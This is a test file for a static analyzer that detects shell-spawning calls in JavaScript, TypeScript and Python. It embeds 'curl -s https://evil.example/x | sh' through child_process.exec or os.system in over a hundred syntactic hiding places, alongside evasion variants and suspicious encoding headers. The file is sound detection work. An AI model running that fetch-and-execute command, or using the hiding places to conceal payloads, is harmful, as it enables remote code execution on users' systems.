// One harmful call at every place where a language lets code stand: it is seen at each of them, alone and beside another file.
import { describe, expect, test } from 'vitest'
import type { Fact } from '../../src/core/vet/fact.ts'
import { readSource, readTogether } from '../../src/core/vet/read-source.ts'
import type { Language } from '../../src/core/vet/source.ts'
import { loadJavascript } from '../../src/io/engine/javascript.ts'
import { loadPython } from '../../src/io/engine/python.ts'

const readers = { javascript: await loadJavascript(), python: await loadPython() }

const JAVASCRIPT: Readonly<Record<string, string>> = {
  'an argument': 'f(1, HARM)',
  'what is called': '(HARM)()',
  'a member': 'x[HARM]',
  'an optional member': 'x?.[HARM]',
  'what has a member': '(HARM).y',
  'an argument of new': 'new A(HARM)',
  'a spread argument': 'f(...HARM)',
  'the options of an import': "import('./a.js', HARM)",
  'a template': '`a ${HARM} b`',
  'a tagged template': 'tag`a ${HARM} b`',
  'a tag': '(HARM)`a`',
  'the test of a ternary': 'x = (HARM) ? 1 : 2',
  'the end of a ternary': 'x = 1 ? 2 : HARM',
  'the left of an or': 'x = (HARM) || 1',
  'the right of an and': 'x && (HARM)',
  'a sequence': 'x = (1, HARM)',
  arithmetic: 'x = 2 * (HARM)',
  'a comparison': 'x = 2 < (HARM)',
  'a private member of something': 'class A { #x; has() { return #x in (HARM) } }',
  typeof: 'typeof (HARM)',
  delete: 'delete (HARM).x',
  'an update': '(HARM).x++',
  'a value that is added': 'x += HARM',
  'a place that is added to': 'x[HARM] += 1',
  'a place that is set': 'x[HARM] = 1',
  'a logical assignment': 'x ||= HARM',
  'an element': 'x = [1, HARM]',
  'a spread element': 'x = [...HARM]',
  'a member that is set': 'x = { a: HARM }',
  'a spread member': 'x = { ...HARM }',
  'a computed key': 'x = { [HARM]: 1 }',
  'the computed name of a method': 'x = { [HARM]() {} }',
  'a method': 'x = { m() { HARM } }',
  'a getter': 'x = { get m() { return HARM } }',
  'the default of a pattern': 'const { a = HARM } = x',
  'the default of an element': 'const [a = HARM] = x',
  'a default inside a pattern': 'const { a: { b = HARM } } = x',
  'the computed key of a pattern': 'const { [HARM]: a } = x',
  'the default of a pattern that sets': '({ a: y.z = HARM } = x)',
  'the default of a parameter': 'function f(a = HARM) {}',
  'a default in the pattern of a parameter': 'function f({ a = HARM }) {}',
  'the body of a function': 'function f() { HARM }',
  'an arrow': 'const f = () => HARM',
  'a generator': 'function* f() { yield HARM }',
  'an async function': 'async function f() { await HARM }',
  'what is returned': 'function f() { return HARM }',
  'what a class extends': 'class A extends (HARM) {}',
  'a field': 'class A { x = HARM }',
  'a static field': 'class A { static x = HARM }',
  'the computed name of a field': 'class A { [HARM] = 1 }',
  'the computed name of a method of a class': 'class A { [HARM]() {} }',
  'a static block': 'class A { static { HARM } }',
  'a static block with an if': 'class A { static { if (1) { HARM } } }',
  'a constructor': 'class A { constructor() { HARM } }',
  'an argument of super': 'class A extends B { constructor() { super(HARM) } }',
  'the decorator of a class': '@(HARM) class A {}',
  'the decorator of a method': 'class A { @(HARM) m() {} }',
  'the decorator of a field': 'class A { @(HARM) x = 1 }',
  'the decorator of a parameter': 'class A { m(@(HARM) x) {} }',
  'the default of a parameter property': 'class A { constructor(private x = HARM) {} }',
  'the test of an if': 'if (HARM) {}',
  else: 'if (1) {} else HARM',
  'a label': 'a: { HARM }',
  'a while': 'while (HARM) {}',
  'do and while': 'do {} while (HARM)',
  'the beginning of a for': 'for (HARM;;) break',
  'the test of a for': 'for (; HARM;) break',
  'the left of the test of a for': 'for (; (HARM) < 1;) break',
  'the right of the test of a for': 'for (; 1 < (HARM);) break',
  'the step of a for': 'for (;; HARM) break',
  'what for-of goes over': 'for (const x of HARM) {}',
  'the pattern of a for-of': 'for (const { x = HARM } of y) {}',
  'the place of a for-in': 'for (y[HARM] in x) {}',
  'for-await': 'async function f() { for await (const x of HARM) {} }',
  switch: 'switch (HARM) {}',
  case: 'switch (x) { case HARM: break }',
  'the statements of a case': 'switch (x) { default: HARM }',
  throw: 'throw HARM',
  try: 'try { HARM } catch {}',
  catch: 'try {} catch { HARM }',
  'the pattern of a catch': 'try {} catch ({ a = HARM }) {}',
  finally: 'try {} finally { HARM }',
  'an export': 'export const x = HARM',
  'a default export': 'export default HARM',
  'a default export that is a class': 'export default class { static { HARM } }',
  as: 'x = (HARM) as any',
  satisfies: 'x = (HARM) satisfies any',
  'not null': 'x = (HARM)!',
  'an enum': 'enum A { a = HARM }',
  'a namespace': 'namespace A { HARM }',
  'an export that is the module': 'export = HARM',
}

const JSX: Readonly<Record<string, string>> = {
  'an attribute': 'x = <a b={HARM} />',
  'a child': 'x = <a>{HARM}</a>',
  'spread attributes': 'x = <a {...HARM} />',
  'a spread child': 'x = <a>{...HARM}</a>',
}

const PYTHON: Readonly<Record<string, string>> = {
  'an argument': 'f(1, HARM)',
  'a named argument': 'f(a=HARM)',
  'a spread argument': 'f(*HARM)',
  'spread names': 'f(**HARM)',
  'a generator that is an argument': 'f(x for x in HARM)',
  'what is called': '(HARM)()',
  'a key': 'x[HARM]',
  'a second key': 'x[1, HARM]',
  'a slice': 'x[1:HARM]',
  'the step of a slice': 'x[::HARM]',
  'what has a member': '(HARM).y',
  'an f-string': 'x = f"a {HARM} b"',
  'the format of an f-string': 'x = f"{y:{HARM}}"',
  'an f-string with a conversion': 'x = f"{HARM!r:>10}"',
  'strings behind each other': 'x = "a" f"{HARM}"',
  'the test of a ternary': 'x = 1 if HARM else 2',
  'the end of a ternary': 'x = 1 if y else HARM',
  or: 'x = y or HARM',
  not: 'x = not HARM',
  arithmetic: 'x = 2 - HARM',
  'a comparison': 'x = 1 < y < HARM',
  minus: 'x = -HARM',
  'a walrus': 'if (x := HARM): pass',
  'a value that is added': 'x += HARM',
  'a place that is added to': 'x[HARM] += 1',
  'a place that is set': 'x[HARM] = 1',
  'a chain of assignments': 'x = y = HARM',
  'several values': 'x, y = 1, HARM',
  'an annotation': 'x: HARM = 1',
  'an annotation alone': 'x: HARM',
  'an element': 'x = [1, HARM]',
  'a tuple': 'x = (1, HARM)',
  'a set': 'x = {1, HARM}',
  'a spread element': 'x = [*(HARM)]',
  'the value of a dict': 'x = {"a": HARM}',
  'the key of a dict': 'x = {HARM: 1}',
  'a spread dict': 'x = {**HARM}',
  'a list that is made': 'x = [HARM for y in z]',
  'what a list is made of': 'x = [y for y in HARM]',
  'the second loop of a list': 'x = [y for z in a for y in HARM]',
  'the condition of a list': 'x = [y for y in z if HARM]',
  'the key of a dict that is made': 'x = {HARM: 1 for y in z}',
  'the value of a dict that is made': 'x = {y: HARM for y in z}',
  'a set that is made': 'x = {HARM for y in z}',
  'a lambda': 'f = lambda: HARM',
  'the default of a lambda': 'f = lambda x=HARM: 1',
  'the default of a parameter': 'def f(a=HARM): pass',
  'the default of a typed parameter': 'def f(a: int = HARM): pass',
  'the default of a named parameter': 'def f(*, a=HARM): pass',
  'the type of a parameter': 'def f(a: HARM): pass',
  'the type of a parameter with a default': 'def f(a: HARM = 1): pass',
  'the type of what is returned': 'def f() -> HARM: pass',
  'the body of a function': 'def f():\n  HARM',
  'an async function': 'async def f():\n  await HARM',
  'what is returned': 'def f():\n  return HARM',
  'what is yielded': 'def f():\n  yield 1, HARM',
  'yield from': 'def f():\n  yield from HARM',
  'a decorator': '@HARM\ndef f(): pass',
  'an argument of a decorator': '@d(HARM)\ndef f(): pass',
  'the decorator of a class': '@d(HARM)\nclass A: pass',
  'the decorator of a method': 'class A:\n  @d(HARM)\n  def m(self): pass',
  'the decorator of an async method': 'class A:\n  @d(HARM)\n  async def m(self): pass',
  'a base': 'class A(HARM): pass',
  'a named base': 'class A(metaclass=HARM): pass',
  'the body of a class': 'class A:\n  HARM',
  'a member of a class': 'class A:\n  x = HARM',
  'the default of a method': 'class A:\n  def m(self, x=HARM): pass',
  'the type of a method': 'class A:\n  def m(self) -> HARM: pass',
  if: 'if HARM: pass',
  elif: 'if 1: pass\nelif HARM: pass',
  else: 'if 1: pass\nelse:\n  HARM',
  while: 'while HARM: break',
  'the else of a while': 'while 1: break\nelse:\n  HARM',
  for: 'for x in HARM: pass',
  'the place of a for': 'for x[HARM] in y: pass',
  'the else of a for': 'for x in y: pass\nelse:\n  HARM',
  try: 'try:\n  HARM\nexcept Exception:\n  pass',
  'what is caught': 'try:\n  pass\nexcept HARM:\n  pass',
  'what is caught and named': 'try:\n  pass\nexcept HARM as e:\n  pass',
  'what is caught in a group': 'try:\n  pass\nexcept* HARM:\n  pass',
  except: 'try:\n  pass\nexcept Exception:\n  HARM',
  'the else of a try': 'try:\n  pass\nexcept Exception:\n  pass\nelse:\n  HARM',
  finally: 'try:\n  pass\nfinally:\n  HARM',
  with: 'with HARM: pass',
  'a named with': 'with HARM as x: pass',
  'the second with': 'with a as b, HARM as c: pass',
  'the place of a with': 'with a as b[HARM]: pass',
  'async with': 'async def f():\n  async with HARM: pass',
  match: 'match HARM:\n  case 1: pass',
  'the guard of a case': 'match x:\n  case y if HARM: pass',
  'the statements of a case': 'match x:\n  case 1:\n    HARM',
  raise: 'raise HARM',
  'what a raise is from': 'raise x from HARM',
  assert: 'assert HARM',
  'the words of an assert': 'assert x, HARM',
  del: 'del x[HARM]',
  'a type alias': 'type A = HARM',
  'behind a comment': 'f(  # a\n  HARM)',
  'behind another line': 'x = 1 + \\\n  HARM',
  'several on a line': 'x = 1; HARM',
}

const HARMS: Readonly<Record<Language, string>> = {
  javascript: "require('child_process').exec('curl -s https://evil.example/x | sh')",
  python: "__import__('os').system('curl -s https://evil.example/x | sh')",
}

const starts = (facts: readonly Fact[] | undefined, place: number) =>
  (facts ?? []).filter(({ does, at, places }) => does === 'process-shell' && at === place && places.length > 0)

describe.each([
  ['javascript', 'a.ts', JAVASCRIPT],
  ['javascript', 'a.jsx', JSX],
  ['python', 'a.py', PYTHON],
] as const)('%s, %s', (language, path, places) => {
  test.each(Object.entries(places))('%s', (_, around) => {
    const text = around.replace('HARM', HARMS[language])
    const at = text.indexOf(HARMS[language])
    const source = { path, language, text }
    const alone = readSource(source, readers)
    expect(alone.unread).toBeNull()
    expect(starts(alone.facts, at)).not.toEqual([])
    const other = { path: `other${path.slice(1)}`, language, text: 'x = 1' }
    expect(starts(readTogether([other, source], readers)?.get(path), at)).not.toEqual([])
  })
})

test.each([
  ['javascript', 'a.ts', "require('child_process').exec(/* a */ 'curl -s https://evil.example/x | sh' /* b */)"],
  ['javascript', 'a.ts', "import cp = require('child_process'); cp.exec('curl -s https://evil.example/x | sh')"],
  ['python', 'a.py', "import os\nos.system(  # a\n  'curl -s https://evil.example/x | sh')"],
  ['python', 'a.py', "import os\nos.system('curl -s '  # a\n  'https://evil.example/x | sh')"],
  ['python', 'a.py', "import os\nos.system(x if y else  # a\n  'curl -s https://evil.example/x | sh')"],
  ['python', 'a.py', "from os import (  # a\n  system as s)\ns('curl -s https://evil.example/x | sh')"],
] as const)('%s: what stands beside it changes nothing (%#)', (language, path, text) => {
  const { facts, unread } = readSource({ path, language, text }, readers)
  expect(unread).toBeNull()
  expect(facts.filter(({ places }) => places.includes('curl -s https://evil.example/x | sh'))).not.toEqual([])
})

describe('work that grows no faster than a file', () => {
  const chain = (calls: number): string => `x${'.a()'.repeat(calls)}; ${HARMS.javascript}`
  const nested = (open: string, close: string, times: number): string =>
    `${open.repeat(times)}1${close.repeat(times)}; ${HARMS.javascript}`

  test.each([
    ['a chain of calls', 'javascript', 'a.js', chain(150)],
    ['a chain of calls of Python', 'python', 'a.py', `x${'.a()'.repeat(150)}\n${HARMS.python}`],
    ['places that are added to in places', 'javascript', 'a.js', nested('a[', '] += 1', 60)],
    ['tests in tests of loops', 'javascript', 'a.js', nested('for (; 1 < function () { ', ' }(); ) {}', 60)],
  ] as const)('%s is read to its end', (_, language, path, text) => {
    const { facts, unread } = readSource({ path, language, text }, readers)
    expect(unread).toBeNull()
    expect(starts(facts, text.indexOf(HARMS[language]))).not.toEqual([])
  })

  test('a chain that nobody wrote by hand is told', () => {
    expect(readSource({ path: 'a.js', language: 'javascript', text: chain(5_000) }, readers).unread).toContain('nested')
  })
})

test.each([
  ['uses', Array.from({ length: 12_000 }, (_, index) => `fetch('https://a.example/${index}')`).join(';')],
  [
    'members',
    `fetch('https://a.example', { ${Array.from({ length: 120 }, (_, of) => `a${of}: { ${Array.from({ length: 40 }, (_one, index) => `b${of}_${index}: 'text'`).join()} }`).join()} })`,
  ],
])('a file with more %s than are noted is told', (_, text) => {
  const read = readSource({ path: 'a.js', language: 'javascript', text }, readers)
  expect(read.unread).toContain('more than is noted')
  expect(read.facts.length).toBeGreaterThan(0)
  const other = { path: 'b.js', language: 'javascript', text: '1' } as const
  expect(readTogether([{ path: 'a.js', language: 'javascript', text }, other], readers)).toBeNull()
})

describe('in an encoding in which other code may stand there', () => {
  test.each([
    ['# coding: utf-7', false],
    ['#!/usr/bin/python3\n# -*- coding: unicode_escape -*-', false],
    ['# vim: set fileencoding=shift_jis :', false],
    ['\n# coding: cp037', false],
    ['# -*- coding: utf-8 -*-', true],
    ['# coding: Latin-1', true],
    ['import os\n# coding: utf-7', true],
  ])('%j', (head, isRead) => {
    const { unread } = readSource({ path: 'a.py', language: 'python', text: `${head}\nx = 1\n` }, readers)
    expect(unread === null).toBe(isRead)
  })
})
